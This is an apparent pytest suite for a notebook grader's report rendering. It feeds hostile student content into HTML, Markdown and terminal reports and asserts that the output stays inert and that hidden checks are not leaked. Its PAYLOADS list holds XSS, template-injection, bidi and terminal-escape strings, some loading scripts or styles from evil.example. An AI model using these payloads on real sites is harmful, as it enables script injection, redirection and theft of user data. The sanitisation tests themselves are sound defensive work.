"""Reports of hostile submissions: nothing of a student's may run, load, hide or escape."""

import json
import re
from dataclasses import asdict, replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from grader.model.verdict import EvidenceRow, Plot, Verdict, VerdictStatus
from grader.reporting.markdown import render_markdown
from grader.reporting.public import public_grade
from grader.reporting.render import render_html
from grader.reporting.terminal import terminal_lines
from grader.reporting.view import page_view
from tests.fakes import grades
from tests.fakes.dom import Node, parse

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "link-javascript": '<a href="javascript:alert(1)">x</a>',
    "link-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "style-tag": "</style><style>@import url(https://evil.example)</style>",
    "style-attribute": '<p style="background:url(https://evil.example)">x</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    "close-tags": '"></pre></code></div></main></body><script>alert(1)</script>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "image-remote": '<img src="https://evil.example/pixel.png">',
    "image-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "jinja": "{{ cycler.__init__.__globals__ }}{% raw %}",
    "ids": '<p id="result" name="notebook" class="skip">x</p>',
    "attribute": '" autofocus onfocus="alert(1)',
    "mermaid": "%%{init: {}}%%\ngraph TD; A[<img src=x onerror=alert(1)>]",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "bidi": "\u202egnp.exe\u2066 \u200f",
    "surrogate": "\ud800\udfff\udc00",
    "escape": "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b31m",
}
LINK = "[x](javascript:alert(1)) [y](https://evil.example) ![z](https://evil.example/p.png) <https://evil.example>"
ALLOWED = {
    *("#document", "#text", "html", "head", "meta", "title", "style", "body", "a", "header", "main", "footer"),
    *("section", "article", "details", "summary", "div", "p", "span", "b", "i", "h1", "h2", "h3", "hr", "bdi"),
    *(
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "pre",
        "code",
        "table",
        "caption",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
    ),
    *("figure", "figcaption", "img", "svg", "desc", "rect", "path", "polyline", "circle", "text"),
    *("strong", "em", "u", "s", "del", "sub", "sup", "small", "mark", "br", "blockquote", "samp", "kbd", "var"),
}


def hostile_notebook(payload: str) -> dict:
    """Return a notebook with the payload in every place that reaches a page."""
    outputs = [
        grades.stream(payload),
        grades.stream(payload, "stderr"),
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload, payload]},
        *(
            grades.rich({kind: payload, "text/plain": payload})
            for kind in (
                *("text/html", "text/markdown", "image/png", "image/jpeg", "image/svg+xml", "text/latex"),
                *("application/javascript", "text/vnd.mermaid", "application/vnd.jupyter.widget-view+json"),
            )
        ),
        grades.rich({payload: payload}),
        grades.rich({"text/html": f"<table {payload}><td {payload}>{payload}</table>"}),
        {"output_type": payload, "data": payload},
    ]
    made = grades.notebook(2, {1: outputs, 2: [*outputs, {"output_type": "stream", "text": [payload, 3]}]})
    made["cells"] += [
        {"cell_type": "markdown", "source": f"# {payload}\n\n{payload}\n\n{LINK}\n\n| a |\n|--|\n| {payload} |"},
        {"cell_type": "raw", "source": payload},
        {"cell_type": payload, "source": [payload, None]},
        {"cell_type": "code", "id": payload, "source": payload, "outputs": "none", "metadata": {"tags": payload}},
        {"cell_type": "code", "id": "cell0001", "source": payload, "metadata": payload},
        payload,
    ]
    return made


def hostile_grade(payload: str):
    """Return a grade with the payload in every text that stems from a student."""
    made = grades.named(payload)
    cells = tuple(replace(cell, first_line=payload) for cell in made.submission.cells)
    curve = {"x_label": payload, "y_label": payload, "series": [{"name": payload, "points": [[0, 1], [1, payload]]}]}
    verdict = Verdict(
        grades.declared("test_x", "The numbers are numbers", 1),
        VerdictStatus.FAILED,
        0.0,
        message=payload,
        hint=payload,
        staff=payload,
        rows=(EvidenceRow(payload, payload, payload, payload, payload, False, payload, payload),),
        plots=(
            Plot("curve", payload, curve),
            Plot("bars", payload, {"unit": payload, "bars": [{"name": payload, "value": 1, "parts": payload}]}),
            Plot("confusion", payload, {"labels": [payload, payload], "counts": [[1, 2], [3, 4]]}),
            Plot("slices", payload, {"unit": payload, "slices": [{"name": payload, "value": 0.5, "n": 3}]}),
        ),
    )
    file = replace(made.manifest.files[0], path=payload)
    error = grades.CellError(payload, payload, payload)
    return replace(
        made,
        verdicts=(*made.verdicts, verdict),
        submission=replace(made.submission, cells=cells),
        manifest=replace(made.manifest, files=(file,), refused=(grades.Refusal(payload, "GR313", payload),)),
        run=replace(
            made.run,
            status=grades.RunStatus.CELL_FAILED,
            code="GR409",
            message=payload,
            stopped_at=2,
            error=error,
            cells=tuple(replace(cell, first_line=payload) for cell in made.run.cells),
            versions={payload: payload},
        ),
    )


def assert_harmless(page: str) -> Node:
    """Assert on the parsed page that nothing in it can run, load or lead away."""
    tree = parse(page.removeprefix("<!doctype html>\n"))
    for node in tree.walk():
        assert node.tag in ALLOWED, node.tag
        assert not [name for name in node.attrs if name.startswith("on") or name in {"style", "srcset", "background"}]
        href = node.attrs.get("href", "#")
        assert href.startswith("#"), href
        assert re.fullmatch(
            r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+", node.attrs.get("src", "data:image/png;base64,AA==")
        )
        assert not {"action", "formaction", "data", "poster", "xlink:href", "srcdoc"} & set(node.attrs)
    assert len(tree.all("style")) == 1
    assert not re.search(r"url\(|@import", tree.all("style")[0].text)
    assert [node.attrs["http-equiv"] for node in tree.all("meta") if "http-equiv" in node.attrs] == [
        "Content-Security-Policy"
    ]
    ids = [node.attrs["id"] for node in tree.walk() if "id" in node.attrs]
    assert len(ids) == len(set(ids))
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", page)
    page.encode()
    return tree


@pytest.mark.parametrize("staff", [False, True], ids=["student", "staff"])
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_everywhere_leaves_the_page_harmless(payload, staff):
    page = render_html(hostile_grade(payload), hostile_notebook(payload), staff=staff)

    assert_harmless(page)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_payload_stays_on_its_lines_in_the_terminal(payload):
    lines = terminal_lines(hostile_grade(payload), report=payload)

    for line in lines:
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", line.text)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_markdown_holds_no_live_html_or_link(payload):
    text = render_markdown(hostile_grade(f"{payload} {LINK} @everyone\n::error::x\n# h\n- l\n1. n"))
    outside_code = re.sub(r"`[^`\n]+`|^    .*$", "", text, flags=re.MULTILINE)

    assert not re.search(r"(?<!\\)<", outside_code)
    assert not re.search(r"(?<!\\)\]\(", outside_code)
    assert "://" not in outside_code.replace("\\://", "")
    assert "@everyone" not in outside_code
    assert not re.search(r"^::", outside_code, flags=re.MULTILINE)
    text.encode()


def test_a_link_of_a_student_is_shown_as_text_with_its_address():
    page = render_html(grades.failing(), grades.notebook(3))

    assert "the docs (https://huggingface.co/docs)" in assert_harmless(page).text


def test_an_honest_picture_and_table_survive():
    tree = assert_harmless(render_html(grades.failing(), grades.notebook()))

    assert [node.attrs["src"][:22] for node in tree.all("img")] == ["data:image/png;base64,"]
    assert any("0.1750" in node.text for node in tree.all("td"))


def test_ten_megabytes_of_output_are_clipped_and_said_to_be():
    flood = [grades.stream("x" * 79 + "\n") for _ in range(20)] + [grades.stream("spam " * 2_000_000)]
    page = render_html(grades.failing(), grades.notebook(2, {1: flood}))

    assert len(page.encode()) < 120_000
    assert "characters not shown here" in page


def test_a_flood_of_outputs_and_cells_is_cut_and_said_to_be():
    outputs = [grades.rich({"text/html": f"<p>{number}</p>"}) for number in range(500)]
    made = grades.notebook(2, {1: outputs})
    made["cells"] += [{"cell_type": "raw", "source": "y" * 20_000} for _ in range(400)]

    page = render_html(grades.failing(), made)

    assert len(page.encode()) < 1_300_000
    assert "470 further outputs are not shown here." in page
    assert "further cells are not shown here" in page


@pytest.mark.timeout(30)
def test_blank_lines_do_not_hold_up_the_page():
    """Python's lexer looks through all blank lines that follow, at each of them: two seconds for a cell."""
    notebook = {"cells": [{"cell_type": "code", "id": f"c{at}", "source": "  \n" * 6_800} for at in range(40)]}

    assert assert_harmless(render_html(grades.failing(), notebook))


def test_cells_that_show_nothing_are_cut_as_well():
    cells = [{"cell_type": "markdown", "id": f"c{at}", "source": "[a]: b\n" * 2_800} for at in range(1_000)]

    page = render_html(grades.failing(), {"cells": cells})

    assert "further cells are not shown here" in page


def test_deep_nesting_and_huge_spans_do_not_break_the_page():
    deep = "<ul><li>" * 3000
    spans = '<table><td colspan="999999999999999999999" rowspan="7">a</td></table>'

    tree = assert_harmless(
        render_html(
            grades.failing(),
            grades.notebook(2, {1: [grades.rich({"text/html": deep})], 2: [grades.rich({"text/html": spans})]}),
        )
    )

    assert [node.attrs for node in tree.all("td") if node.text == "a"] == [{"rowspan": "7"}]
    assert any(node.text.startswith("<ul><li><ul>") for node in tree.all("pre"))


STATES = list(VerdictStatus)
SECRETS = {
    "title": "Sesquipedalian title",
    "hint": "Crepuscular hint",
    "declared": "Lugubrious declared hint",
    "message": "Obstreperous message",
    "staff": "Perspicacious traceback",
    "label": "Pulchritudinous label",
    "measured": "Verisimilitude",
    "claimed": "Discombobulated",
    "required": "Antediluvian",
    "sentence": "Callipygian sentence",
    "row hint": "Defenestrated row hint",
    "plot": "Flibbertigibbet plot",
    "series": "Gobbledygook",
    "id": "test_quixotic_name",
    "module": "test_labyrinthine_module.py",
    "tag": "exercise-bamboozle",
}
VISIBLE = {
    "full": {"title", "hint", "message", "label", "measured", "claimed", "required", "plot", "series"},
    "hint": {"title", "hint"},
    "title": {"title"},
    "score": set(),
}
#: In the JSON of the grade a fully revealed check also keeps what the page does not print.
VISIBLE_JSON = {
    **VISIBLE,
    "full": VISIBLE["full"] | {"declared", "sentence", "row hint", "id", "tag"},
    "hint": {"title", "hint", "declared", "tag"},
}


def secret_grade(level: str, status: VerdictStatus):
    """Return a grade whose hidden check holds a secret in each of its fields, and another that waits for it."""
    check = grades.declared(
        SECRETS["id"],
        SECRETS["title"],
        5,
        module=SECRETS["module"],
        hidden=True,
        reveal=level,
        hint=SECRETS["declared"],
        cell=SECRETS["tag"],
    )
    judged = status not in {VerdictStatus.NOT_JUDGED, VerdictStatus.OUR_FAULT}
    row = EvidenceRow(
        SECRETS["label"],
        SECRETS["measured"],
        SECRETS["required"],
        SECRETS["claimed"],
        met=False,
        sentence=SECRETS["sentence"],
        hint=SECRETS["row hint"],
    )
    plot = Plot("curve", SECRETS["plot"], {"series": [{"name": SECRETS["series"], "points": [[0, 1], [1, 2]]}]})
    fraction = {VerdictStatus.PASSED: 1.0, VerdictStatus.PARTLY: 0.5}.get(status, 0.0) if judged else None
    verdict = Verdict(
        check,
        status,
        fraction,
        message=SECRETS["message"],
        hint=SECRETS["hint"],
        rows=(row,),
        plots=(plot,),
        staff=SECRETS["staff"],
        mistake="tokenizer-mismatch",
        waits_for=("test_open",),
        seconds=3.25,
    )
    opened = Verdict(grades.declared("test_open", "An open check", 5), VerdictStatus.PASSED, 1.0)
    waiting = Verdict(
        grades.declared("test_later", "A later check", 5, needs=(SECRETS["id"],)),
        VerdictStatus.NOT_JUDGED,
        None,
        waits_for=(SECRETS["id"],),
    )
    flags = (grades.Flag("GR501", f"{SECRETS['id']}: {SECRETS['staff']}"),)
    return grades.grade((opened, verdict, waiting), flags=flags)


@pytest.mark.parametrize("status", STATES, ids=[status.value for status in STATES])
@pytest.mark.parametrize("level", VISIBLE)
def test_hidden_text_occurs_nowhere_in_what_a_student_gets(level, status):
    made = secret_grade(level, status)
    outputs = {
        "html": render_html(made, grades.notebook()),
        "markdown": render_markdown(made).replace("\\", ""),
        "terminal": "\n".join(line.text for line in terminal_lines(made)),
    }
    data = {
        "view": json.dumps(asdict(page_view(made))),
        "json": _json(public_grade(made)),
    }

    for name, text in outputs.items():
        for secret in SECRETS.keys() - VISIBLE[level]:
            assert SECRETS[secret] not in text, (name, secret)
    for name, text in data.items():
        for secret in SECRETS.keys() - VISIBLE_JSON[level]:
            assert SECRETS[secret] not in text, (name, secret)


@pytest.mark.parametrize("status", STATES, ids=[status.value for status in STATES])
@pytest.mark.parametrize("level", VISIBLE)
def test_staff_see_everything_at_every_level(level, status):
    made = secret_grade(level, status)
    page = render_html(made, None, staff=True)
    text = render_markdown(made, staff=True).replace("\\", "")

    shown = VISIBLE["full"] | {"staff"}
    if status in {VerdictStatus.PASSED, VerdictStatus.NOT_JUDGED, VerdictStatus.OUR_FAULT}:
        shown -= {"hint"}
    for secret in shown:
        assert SECRETS[secret] in page, secret
    if status is not VerdictStatus.PASSED:
        for secret in shown - {"series"}:
            assert SECRETS[secret] in text, secret
    assert level in page


@pytest.mark.parametrize("level", ["full", "hint", "title"])
def test_what_a_level_reveals_is_there(level):
    page = render_html(secret_grade(level, VerdictStatus.FAILED), None)

    for name in VISIBLE[level]:
        assert SECRETS[name] in page, name


def test_a_hidden_check_that_failed_is_counted_even_when_only_its_points_are_shown():
    page = render_html(secret_grade("score", VerdictStatus.FAILED), None)

    assert "The hidden check is not met (5 points)." in page
    assert "Hidden check 2" in page


def _json(grade):
    import msgspec

    return msgspec.json.encode(grade).decode()


texts = st.text(st.characters(codec=None, exclude_categories=()), max_size=60)
quick = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@quick
@given(name=texts, output=texts, markup=texts)
def test_any_name_and_any_output_leave_the_page_harmless(name, output, markup):
    outputs = [grades.stream(output), grades.rich({"text/html": markup}), grades.rich({"text/markdown": output})]

    assert_harmless(render_html(grades.named(name), grades.notebook(1, {1: outputs})))


pieces = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "<b",
        "<td",
        "<img src=",
        '"',
        "'",
        "=",
        "&",
        "&#",
        "data:image/png;base64,",
        "<table>",
        "<svg>",
        "<math>",
        "<style>",
        "-->",
        "<!--",
        "]]>",
        "x",
        " ",
        "\n",
        "`",
        "|",
        "\x00",
        "[",
    ]
)


@quick
@given(st.lists(pieces, max_size=40).map("".join))
def test_any_soup_of_tags_leaves_the_page_harmless(soup):
    outputs = [grades.rich({"text/html": soup}), grades.rich({"text/markdown": soup}), grades.stream(soup)]

    assert_harmless(render_html(grades.failing(), grades.notebook(1, {1: outputs})))


@quick
@given(
    st.recursive(
        st.none() | st.booleans() | st.floats() | st.integers() | st.text(max_size=5),
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.dictionaries(
                st.sampled_from(
                    [
                        "cells",
                        "cell_type",
                        "source",
                        "outputs",
                        "data",
                        "text",
                        "name",
                        "output_type",
                        "metadata",
                        "tags",
                        "id",
                        "text/html",
                        "image/png",
                        "traceback",
                    ]
                ),
                inner,
                max_size=5,
            )
        ),
        max_leaves=30,
    )
)
def test_a_notebook_of_any_shape_makes_a_page(shape):
    notebook = {"cells": shape} if not isinstance(shape, dict) else shape

    assert_harmless(render_html(grades.failing(), notebook))
